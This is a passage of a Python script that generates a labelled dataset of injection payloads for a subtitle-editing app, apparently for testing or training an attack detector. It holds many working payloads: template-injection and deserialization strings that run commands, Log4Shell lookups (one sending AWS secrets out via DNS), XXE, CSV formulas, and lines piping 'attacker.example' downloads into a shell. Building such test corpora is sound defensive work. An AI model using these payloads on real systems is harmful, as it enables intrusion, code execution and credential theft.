    ("font-url-internal", "http://172.17.0.1:8080/v1.24/containers/json"),
    ("ftp-scheme-internal", "ftp://10.0.0.20/subs/../../etc/passwd"),
    ("jar-scheme", "jar:http://203.0.113.9/evil.jar!/ep01.srt"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("ldap-scheme-url", "ldap://127.0.0.1:389/dc=subs,dc=local?*?sub"),
    ("tftp-scheme", "tftp://203.0.113.9:69/ep01.srt"),
    ("plain-metadata-ip", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback-port", "http://127.0.0.1:22/"),
]

# --------------------------------------------------------------------------------------
# code: SSTI in export templates, EL, eval'd offsets, XXE in TTML/DFXP, deserialization,
#       Log4Shell lookups, prototype pollution, CSV formula in spreadsheet export
# --------------------------------------------------------------------------------------
CODE = [
    ("export-template-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("export-template-jinja2-config", "{{ config.items() }}"),
    ("export-template-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("export-template-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("export-template-jinja2-request-attr", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("export-template-jinja2-statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("srt-cue-jinja2", "3\n00:00:07,007 --> 00:00:09,843\n{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("cue-text-twig-filter", "{{ ['id']|filter('system') }}"),
    ("cue-text-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("cue-text-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("cue-text-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("cue-text-erb", "<%= `id` %>"),
    ("cue-text-erb-system", "<%= system('cat /etc/passwd') %>"),
    ("cue-text-smarty", "{system('id')}"),
    ("cue-text-smarty-php", "{php}echo shell_exec('id');{/php}"),
    ("cue-text-mako", "${ __import__('os').popen('id').read() }"),
    ("cue-text-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("cue-text-handlebars-constructor", "{{#with \"s\" as |string|}}{{#with string.sub.apply 0 \"constructor\" as |c|}}{{c \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("cue-text-ejs-outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("cue-text-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("cue-text-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("style-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("note-spring-el", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("note-jsp-el", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("note-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("note-mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("offset-python-eval", "__import__('os').system('id')"),
    ("offset-python-eval-arith-prefix", "1.5+__import__('subprocess').check_output(['id']).__len__()"),
    ("fps-python-eval", "24000/1001 if __import__('os').system('curl attacker.example/f') else 0"),
    ("offset-js-eval", "require('child_process').execSync('id').toString()"),
    ("offset-js-eval-function", "1.5;this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("offset-php-eval", "1.5;system('id');"),
    ("offset-ruby-eval", "1.5; `id`"),
    ("ttml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE tt [<!ENTITY cap SYSTEM \"file:///etc/passwd\">]>\n<tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p begin=\"00:00:01.000\" end=\"00:00:03.000\">&cap;</p></div></body></tt>"),
    ("ttml-xxe-oob-parameter", "<?xml version=\"1.0\"?>\n<!DOCTYPE tt [<!ENTITY % d SYSTEM \"http://attacker.example/t.dtd\"> %d;]>\n<tt xmlns=\"http://www.w3.org/ns/ttml\"><body/></tt>"),
    ("dfxp-xxe-ssrf", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE tt [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>\n<tt xml:lang=\"en\" xmlns=\"http://www.w3.org/2006/10/ttaf1\"><body><div><p begin=\"0s\" end=\"1s\">&m;</p></div></body></tt>"),
    ("ttml-xinclude", "<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><body><div><p begin=\"0s\" end=\"2s\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></p></div></body></tt>"),
    ("ttml-xxe-billion-laughs", "<?xml version=\"1.0\"?>\n<!DOCTYPE tt [<!ENTITY a \"subsubsubsub\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]>\n<tt xmlns=\"http://www.w3.org/ns/ttml\"><body><div><p>&e;&e;&e;&e;</p></div></body></tt>"),
    ("smil-xxe-php-filter", "<?xml version=\"1.0\"?>\n<!DOCTYPE smil [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]>\n<smil><body><text src=\"&s;\"/></body></smil>"),
    ("project-file-pickle+base64", "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("project-file-pickle-protocol0", "cos\nsystem\n(S'curl attacker.example/p | sh'\ntR."),
    ("project-file-yaml-python", "title: Episode 12\nstyles: !!python/object/apply:os.system [\"id\"]"),
    ("project-file-yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve"),
    ("project-file-snakeyaml", "style: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("project-file-php-object", "O:12:\"SubtitleFile\":1:{s:4:\"path\";s:11:\"/etc/passwd\";}"),
    ("project-file-php-phar", "phar:///var/www/uploads/ep01.srt/test.txt"),
    ("project-file-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("project-file-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.4:1099/Obj\",\"autoCommit\":true}"),
    ("project-file-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("project-file-node-serialize", "{\"title\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("srt-cue-log4shell", "44\n00:03:33,000 --> 00:03:35,750\n${jndi:ldap://attacker.example:1389/a}"),
    ("user-agent-log4shell-nested", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://l4j.attacker.example/x}"),
    ("filename-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.12:1099/o}.srt"),
    ("note-log4shell-env-exfil", "TN: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example}"),
    ("search-log4shell+case-mix", "${jNdI:LdAp://attacker.example/s}"),
    ("project-json-proto-pollution", "{\"title\":\"ep01\",\"__proto__\":{\"isAdmin\":true}}"),
    ("project-json-constructor-prototype", "{\"style\":{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}}"),
    ("query-proto-pollution", "style[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("settings-path-proto-pollution", "__proto__.sourceURL=\nreturn process.mainModule.require('child_process').execSync('id')"),
    ("export-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Open cue\")"),
    ("export-csv-dde", "=cmd|' /C calc'!A0"),
    ("export-csv-plus-dde", "+cmd|'/C powershell -nop iwr attacker.example/a.ps1|iex'!A0"),
    ("export-csv-at-sum", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("export-csv-minus", "-2+3+cmd|' /C whoami'!A0"),
    ("export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/c?x=\"&ENCODEURL(C3))"),
    ("export-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C40),\"//a\")"),
    ("export-csv-tab-prefixed", "\t=HYPERLINK(\"http://203.0.113.3/\",\"[door slams]\")"),
    ("srt-cue-csv-formula", "58\n00:04:59,999 --> 00:05:02,300\n=IMAGE(\"https://attacker.example/p.png?\"&A1)"),
    ("plain-jinja2-arith", "{{7*'7'}}{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-el-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("plain-yaml-python", "!!python/object/apply:subprocess.check_output [[\"id\"]]"),
]

# --------------------------------------------------------------------------------------
# nosqli: cue search and project lookup merged into a MongoDB filter
# --------------------------------------------------------------------------------------
NOSQLI = [
    ("search-json-ne", "{\"text\": {\"$ne\": null}}"),
    ("search-json-regex-all", "{\"text\": {\"$regex\": \".*\"}, \"project_id\": {\"$ne\": 0}}"),
    ("search-json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where-string-breakout", "don't'; return true; var x='"),
    ("search-where-string-or", "x' || '1'=='1"),
    ("search-where-dos", "'; while(true){}; '"),
    ("query-param-ne", "text[$ne]=nothing"),
    ("query-param-gt", "owner[$gt]="),
    ("query-param-regex-prefix", "token[$regex]=^FAKE"),
    ("query-param-in", "lang[$in][]=en&lang[$in][]=fr&owner_id[$nin][]=0"),
    ("login-json-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}"),
    ("login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("search-json-expr", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("search-json-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return sleep(4000) || true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("search-json-or-injection", "{\"$or\": [{\"text\": \"♪\"}, {\"owner_id\": {\"$exists\": true}}]}"),
    ("aggregate-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password_hash\": 1}}]"),
    ("search-regex-blind-char", "{\"api_token\": {\"$regex\": \"^F\"}}"),
    ("style-name-json-ne", "{\"name\": {\"$ne\": \"Default\"}, \"owner_id\": {\"$gte\": 0}}"),
    ("sort-injection-where", "{\"$where\": \"this.role == 'admin'\"}"),
    ("update-operator-injection", "{\"$set\": {\"role\": \"admin\"}}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-where-true", "{\"$where\": \"1==1\"}"),
    ("plain-regex-any", "{\"$regex\": \"^\"}"),
    ("plain-param-ne", "[$ne]=1"),
]

# --------------------------------------------------------------------------------------
# crlf: download filename in Content-Disposition, redirect target, logs, share-by-mail
# --------------------------------------------------------------------------------------
CRLF = [
    ("download-filename-set-cookie", "ep01.srt\r\nSet-Cookie: session=FAKE-SESSION-1234; Path=/"),
    ("download-filename-response-split", "ep01.srt\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("download-filename-set-cookie+urlenc", "ep01.srt%0d%0aSet-Cookie:%20admin=1"),
    ("download-filename-lf-only", "movie.en.vtt\nX-Accel-Redirect: /internal/backups/db.sql"),
    ("redirect-next-location+urlenc", "/editor%0d%0aLocation:%20https://attacker.example/login"),
    ("redirect-next-header-add", "/projects/12\r\nRefresh: 0; url=https://attacker.example/"),
    ("lang-header-injection", "en-US\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("filename-header-csp-override", "subs.zip\r\nContent-Security-Policy: script-src 'unsafe-inline' *"),
    ("search-log-forged-entry", "door slams\n2024-05-03 14:22:01 INFO auth: user=admin action=login result=success ip=10.0.0.2"),
    ("search-log-forged-crlf", "sleep\r\n[2024-05-03T14:22:01Z] AUDIT role_change user=mallory new_role=admin by=system"),
    ("note-log-forged-json", "fine\n{\"level\":\"info\",\"msg\":\"export approved\",\"user\":\"admin\",\"project\":\"all\"}"),
    ("offset-log-forged", "+1.5\nWARN sync: offset reset by admin; audit disabled"),
    ("filename-log-ansi", "ep01.srt\u001b[2J\u001b[1;1HLog cleared by root"),
    ("share-email-bcc", "reviewer@example.com\r\nBcc: list@attacker.example"),
    ("share-email-cc-lf", "translator@example.org\nCc: archive@attacker.example\nX-Priority: 1"),
    ("share-subject-body-inject", "Review ep01\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/reset\">Reset your password</a>"),
    ("share-email-bcc+urlenc", "qc@example.com%0ABcc:%20collect@attacker.example"),
    ("share-smtp-smuggling", "Please check cue 12\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: Urgent wire\r\n\r\nsend money\r\n.\r\n"),
    ("speaker-label-header-inject", "ANNA\r\nX-Forwarded-For: 127.0.0.1"),
    ("vtt-header-crlf-cookie", "WEBVTT\r\nSet-Cookie: role=admin"),
    ("style-name-location+urlenc", "Default%0D%0ALocation:%20//attacker.example"),
    ("cue-id-set-cookie+double-urlenc", "intro-1%250d%250aSet-Cookie:%2520x=1"),
    ("track-name-set-cookie+unicode-crlf", "English\u560a\u560dSet-Cookie: a=b"),
    ("redirect-response-split+urlenc", "/done%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("webhook-header-host", "https://hooks.example/x\r\nHost: internal.admin.local"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: pwn=1"),
    ("plain-crlf-urlenc", "%0d%0aX-Injected: 1"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
    ("plain-lf-log-forge", "\nINFO login ok user=admin"),
]

# --------------------------------------------------------------------------------------
# ldap-xpath: translator directory (LDAP) and TTML/XML library lookups (XPath)
# --------------------------------------------------------------------------------------
LDAP_XPATH = [
    ("translator-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("translator-ldap-always-true", "admin)(&)"),
    ("translator-ldap-objectclass", "*)(|(objectClass=*)"),
    ("translator-ldap-password-probe", "lena*)(userPassword=a*"),
    ("translator-ldap-attr-enum", "*)(mail=*@attacker.example"),
    ("translator-ldap-language-filter", "fr)(|(memberOf=cn=admins,ou=groups,dc=subs,dc=example)"),
    ("translator-ldap-null-terminate", "admin)\u0000"),
    ("translator-ldap-escaped-hex", "\\2a)(uid=\\2a"),
    ("style-ldap-cn", "Default)(cn=*))%00"),
    ("library-xpath-or-true", "Harbour' or '1'='1"),
    ("library-xpath-union-users", "x'] | //user/password | //cue['"),
    ("library-xpath-count-probe", "x' or count(//user)>0 or 'a'='b"),
    ("library-xpath-substring-blind", "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
    ("library-xpath-name-probe", "' or name(/*[1])='tt' or '"),
    ("library-xpath-doc-function", "x' or doc('http://attacker.example/x.xml') or '"),
    ("library-xpath-string-length", "ep01' and string-length(//user[position()=1]/token)=32 and '1'='1"),
    ("ttml-xpath-begin-attr", "00:00:01.000' or @begin or '"),
    ("library-xpath-numeric", "1 or 1=1"),
    ("plain-ldap-star", "*)(|(cn=*"),
    ("plain-xpath-or", "' or ''='"),
    ("plain-ldap-admin-close", "admin*)(|(userPassword=*)"),
    ("plain-xpath-union-all", "'] | //* | //x['"),
]

# --------------------------------------------------------------------------------------
# Computed part: hand-written base pool re-encoded (URL once/twice, HTML entities,
# unicode escapes). Base payloads themselves are hand-written here.
# --------------------------------------------------------------------------------------
ENCODE_BASE = [
    ("sqli", "search-union-select", "♪' UNION SELECT email,password_hash FROM users-- -"),
    ("sqli", "cue-id-boolean", "7 OR 1=1"),
    ("sqli", "search-time-sleep", "(sighs)' AND SLEEP(7)-- -"),
    ("xss", "srt-cue-img-onerror", "<i>Hi</i><img src=x onerror=alert(document.cookie)>"),
    ("xss", "vtt-voice-svg", "<v Anna><svg onload=alert(document.domain)>"),
    ("xss", "filename-attr-breakout", "ep02\"><svg onload=alert(1)>.vtt"),
    ("cmdi", "filename-semicolon", "ep05.srt;cat /etc/passwd"),
    ("cmdi", "offset-subshell", "+2.0$(curl attacker.example/o|sh)"),
    ("traversal", "filename-dotdot", "../../../../etc/passwd"),
    ("traversal", "lang-code-dotdot", "../../../../../../app/.env"),
    ("ssrf", "import-url-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("code", "export-template-jinja2", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
    ("code", "srt-cue-log4shell", "${jndi:ldap://attacker.example/e}"),
    ("crlf", "download-filename-set-cookie", "ep03.srt\r\nSet-Cookie: s=FAKE"),
    ("ldap-xpath", "translator-ldap-wildcard", "*)(uid=*))(|(uid=*"),
]

SSRF_IP_FORMS = [
    ("import-url-metadata+ip-decimal", "http://2852039166/latest/meta-data/"),
    ("import-url-metadata+ip-hex", "http://0xA9FEA9FE/latest/meta-data/"),
    ("import-url-metadata+ip-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("import-url-metadata+ip-dotted-hex", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("import-url-localhost-admin+ip-decimal", "http://2130706433:8080/admin"),
    ("import-url-localhost-status+ip-octal", "http://0177.0.0.1/server-status"),
    ("import-url-redis+ip-hex", "http://0x7f000001:6379/"),
]

TRAVERSAL_ENCODED = [
    ("filename-dotdot", "urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("filename-dotdot", "double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("filename-dotdot", "overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("filename-dotdot-slash", "overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("filename-dotdot-backslash", "urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("filename-dotdot", "iis-unicode", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
]


def url_once(s):
    return quote(s, safe="")


def url_twice(s):
    return quote(quote(s, safe=""), safe="")


def html_entities(s):
    return "".join(f"&#{ord(c)};" if c in "<>\"'()=;/ " or ord(c) > 126 else c for c in s)


def unicode_escapes(s):
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'(){}$;" else c for c in s)


ENCODERS = [
    ("urlenc", url_once),
    ("double-urlenc", url_twice),
    ("html-entities", html_entities),
    ("unicode-escape", unicode_escapes),
]


def encoded_variants(rng):
    """Each base payload gets one or two encodings chosen by the seeded RNG."""
    out = []
    for cat, cls, base in ENCODE_BASE:
        picks = rng.sample(ENCODERS, 2 if cat in ("sqli", "xss") else 1)
        for name, fn in picks:
            out.append((cat, f"{cls}+{name}", fn(base)))
    return out


def literal_rows():
    rows = []
    for cat, pool in [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI),
                      ("traversal", TRAVERSAL), ("ssrf", SSRF), ("code", CODE),
                      ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH)]:
        for cls, v in pool:
            rows.append((cat, cls, v))
    for cls, url in SSRF_IP_FORMS:
        rows.append(("ssrf", cls, url))
    for cls, enc, v in TRAVERSAL_ENCODED:
        rows.append(("traversal", f"{cls}+{enc}", v))
    return rows


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    rng = random.Random(SEED)
    lit = literal_rows()
    comp = encoded_variants(rng)
    by_cat = {c: [] for c in ORDER}
    for cat, cls, v in lit:
        by_cat[cat].append((cls, v, True))
    for cat, cls, v in comp:
        by_cat[cat].append((cls, v, False))

    rows = []
    seen = {}
    stats = []
    for cat in ORDER:
        n_lit = 0
        for cls, v, is_lit in by_cat[cat]:
            if v in seen:
                raise SystemExit(f"duplicate value in {cat}: {v!r}")
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {cat}: {v!r}")
            seen[v] = cat
            n_lit += is_lit
            rows.append({"category": cat, "class": cls, "value": v})
        stats.append((cat, len(by_cat[cat]), n_lit))

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, r in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                   "label": "attack", "value": r["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print(f"{cat:11s} {n:4d}  literals={n_lit}")
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    encoded = sum(1 for r in rows if "+" in r["class"])
    print(f"total {len(rows)}  literals={total_lit} ({100 * total_lit / len(rows):.0f}%)"
          f"  plain={plain}  encoded={encoded}")


if __name__ == "__main__":
    main()
